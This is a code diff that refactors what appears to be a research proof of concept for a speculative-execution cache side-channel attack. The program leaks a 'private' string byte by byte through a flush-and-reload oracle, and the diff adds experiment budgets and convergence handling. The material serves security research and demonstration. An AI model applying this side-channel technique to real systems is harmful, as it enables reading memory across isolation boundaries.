@@ -39,6 +39,7 @@
 #include <unistd.h>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "utils.h"
@@ -47,10 +48,13 @@
 // breakpoint.
 extern char breakpoint[];
 
-static char LeakByte(const char *data, size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  const char *data, size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
 
+  ExperimentLoop loop(budget);
   for (int run = 0;; ++run) {
     size_t safe_offset = run % strlen(public_data);
     sidechannel.FlushOracle();
@@ -95,18 +99,14 @@ static char LeakByte(const char *data, size_t offset) {
     std::pair<bool, char> result =
         sidechannel.RecomputeScores(public_data[safe_offset]);
 
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
+    if (loop.Done(result)) {
+      return loop.Finish(sidechannel);
     }
   }
 }
 
 void ChildProcess() {
+  CacheSideChannel sidechannel;
   // Allow the parent to trace child's execution.
   int res = ptrace(PTRACE_TRACEME, 0, nullptr, nullptr);
   if (res == -1) {
@@ -123,7 +123,14 @@ void ChildProcess() {
   std::cout.flush();
   const size_t private_offset = private_data - public_data;
   for (size_t i = 0; i < strlen(private_data); ++i) {
-    std::cout << LeakByte(public_data, private_offset + i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, public_data,
+                                         private_offset + i,
+                                         ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   std::cout << "\nDone!\n";